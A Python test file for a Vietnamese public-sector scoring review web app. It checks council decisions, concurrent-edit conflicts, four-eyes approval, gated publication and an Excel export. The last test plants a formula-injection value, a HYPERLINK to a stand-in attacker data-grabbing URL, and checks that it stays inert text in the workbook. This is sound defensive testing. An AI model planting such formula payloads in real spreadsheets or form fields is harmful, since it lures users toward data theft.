"""Council decisions through the review web app: a decision changes the verified score shown, needs a reason,
two reviewers on one claim get 409 rather than an overwrite, four eyes; then what the decisions feed: the
Excel export and the public page, shown only after publication."""

from __future__ import annotations

import io
import re
from decimal import Decimal

from openpyxl import load_workbook

from dti import audit
from dti.warehouse.db import session_scope
from dti.warehouse.models import ClaimLedgerRow, Unit, UnitScore
from tests import review_fixtures
from tests.review_fixtures import PERIOD, Browser, decision_count, review_app

app = review_fixtures.app  # the fixture: the web app over the seeded review world, in appraisal


def _claim(url, unit, code) -> ClaimLedgerRow:
    with session_scope(url) as s:
        return s.get(ClaimLedgerRow, (unit, PERIOD, code))


# --- decisions through the web -------------------------------------------------------------


def test_decision_changes_the_verified_score_shown(app, warehouse):
    b = Browser(app, "hoidong1")
    page = b.get(f"/chi-tieu/{PERIOD}/D01/F5").get_data(as_text=True)
    assert 'name="version" value="1"' in page
    r = b.post(
        f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh",
        {"action": "keep_claim", "reason": "Đơn vị giải trình hợp lý", "version": "1"},
    )
    assert r.status_code == 302
    page = b.get(r.headers["Location"]).get_data(as_text=True)
    assert "36,00 → 40,00" in page and "Đơn vị giải trình hợp lý" in page
    assert 'data-unit="D01">58,00 / 1000,00' in b.get("/xep-hang").get_data(as_text=True)


def test_a_decision_without_a_reason_is_refused(app, warehouse):
    b = Browser(app, "hoidong1")
    b.get(f"/chi-tieu/{PERIOD}/D01/F5")
    r = b.post(
        f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh", {"action": "keep_claim", "reason": " ", "version": "1"}
    )
    assert r.status_code == 400 and "lý do" in r.get_data(as_text=True)
    assert decision_count(warehouse) == 0


def test_two_reviewers_deciding_the_same_claim_get_409_not_an_overwrite(app, warehouse):
    a, b = Browser(app, "hoidong1"), Browser(app, "hoidong2")
    a.get(f"/chi-tieu/{PERIOD}/D01/F5")
    b.get(f"/chi-tieu/{PERIOD}/D01/F5")
    ra = a.post(
        f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh", {"action": "keep_claim", "reason": "A", "version": "1"}
    )
    rb = b.post(
        f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh",
        {"action": "set_value", "value": "50%", "reason": "B", "version": "1"},
    )
    assert ra.status_code == 302 and rb.status_code == 409
    text = rb.get_data(as_text=True)
    assert "vừa được người khác cập nhật" in text and "CHƯA được lưu" in text
    row = _claim(warehouse, "D01", "F5")
    assert row.verified_value == Decimal("0.99") and decision_count(warehouse) == 1


def test_four_eyes_through_the_web(app, warehouse):
    a = Browser(app, "hoidong1")
    a.get(f"/chi-tieu/{PERIOD}/D01/F12")
    r = a.post(
        f"/chi-tieu/{PERIOD}/D01/F12/quyet-dinh", {"action": "keep_claim", "reason": "Giữ", "version": "1"}
    )
    page = a.get(r.headers["Location"]).get_data(as_text=True)
    assert "chờ một thành viên Hội đồng khác phê duyệt" in page
    assert "chờ phê duyệt #" in a.get("/hang-doi").get_data(as_text=True)
    assert "Người đề xuất không tự phê duyệt" in page
    pending_id = int(re.search(r"Quyết định #(\d+) \(", page).group(1))
    b = Browser(app, "hoidong2")
    page = b.get(f"/chi-tieu/{PERIOD}/D01/F12").get_data(as_text=True)
    version = re.search(r'id="approval-form">.*?name="version" value="(\d+)"', page, re.S).group(1)
    r = b.post(
        f"/quyet-dinh/{pending_id}/phe-duyet", {"verdict": "approve", "reason": "Đồng ý", "version": version}
    )
    assert r.status_code == 302
    assert _claim(warehouse, "D01", "F12").verified_points == Decimal("28.5")
    with session_scope(warehouse) as s:
        assert s.get(UnitScore, ("D01", PERIOD)).verified_total == Decimal("64.5")
        assert audit.verify(s) == []


# --- public page and export ----------------------------------------------------------------


def test_public_page_only_after_publication_from_the_published_copy(warehouse):
    app = review_app(warehouse, "final")
    anon = app.test_client()
    assert anon.get(f"/cong-khai/{PERIOD}").status_code == 404
    admin = Browser(app, "quantri")
    admin.get("/quan-tri")
    # Moving the phase to "published" by hand is no longer a way to publish.
    r = admin.post("/quan-tri/giai-doan", {"period": PERIOD, "phase": "published"})
    assert r.status_code == 400 and anon.get(f"/cong-khai/{PERIOD}").status_code == 404
    admin.get("/quan-tri")
    publish = {"period": PERIOD, "decision": "123/QĐ-UBND", "signed_on": "2026-03-31", "signer": "Chủ tịch UBND tỉnh"}
    r = admin.post("/quan-tri/cong-bo", publish)  # final, but nobody signed the results off yet
    assert r.status_code == 409 and "chưa được ký duyệt" in r.get_data(as_text=True)
    admin.get("/quan-tri")
    r = admin.post("/quan-tri/giai-doan", {"period": PERIOD, "phase": "final", "signed_off": "1"})
    assert r.status_code == 302
    admin.get("/quan-tri")
    r = admin.post("/quan-tri/cong-bo", publish)
    assert r.status_code == 302
    page = anon.get(f"/cong-khai/{PERIOD}").get_data(as_text=True)
    assert "123/QĐ-UBND" in page and "31/03/2026" in page and "Sở Nội vụ" in page and "&lt;script&gt;" in page
    assert "Đăng xuất" not in page and "/chi-tieu/" not in page
    assert "Điểm tự chấm" not in page  # the public sees verified results only
    assert "65,00 / 1000,00" in page
    assert anon.get("/cong-khai/not-a-period").status_code == 404


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_excel_export_lists_the_claims_and_the_decisions_taken(app):
    council = Browser(app, "hoidong1")
    council.get(f"/chi-tieu/{PERIOD}/D01/F5")
    council.post(
        f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh",
        {"action": "keep_claim", "reason": "Có căn cứ", "version": "1"},
    )
    b = Browser(app, "canbo")
    r1 = b.get(f"/xuat-excel?ky={PERIOD}")
    r2 = b.get(f"/xuat-excel?ky={PERIOD}")
    assert r1.status_code == 200 and "hoi-dong-tham-dinh-2025-R3.xlsx" in r1.headers["Content-Disposition"]
    assert _cells(r1.data) == _cells(r2.data)
    values = {str(v) for _, _, v in _cells(r1.data) if v is not None}
    assert {"D01", "D02", "D03", "F5", "F12"} <= values
    assert "58" in values or "58.0" in values  # D01's verified total after the decision


def test_a_reason_or_a_name_written_as_a_formula_stays_text_in_the_workbook(app, warehouse):
    evil = '=HYPERLINK("http://ke-gian.example/lay-du-lieu","Bấm vào đây")'
    with session_scope(warehouse) as s:
        s.get(Unit, "D03").name_vi = "=1+1"
    council = Browser(app, "hoidong1")
    council.get(f"/chi-tieu/{PERIOD}/D01/F5")
    r = council.post(f"/chi-tieu/{PERIOD}/D01/F5/quyet-dinh", {"action": "keep_claim", "reason": evil, "version": "1"})
    assert r.status_code == 302
    data = Browser(app, "canbo").get(f"/xuat-excel?ky={PERIOD}").data
    wb = load_workbook(io.BytesIO(data))
    planted = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value in (evil, "=1+1")]
    assert {c.value for c in planted} == {evil, "=1+1"}  # both are in the workbook …
    assert {c.data_type for c in planted} == {"s"}  # … as text, never as formulas
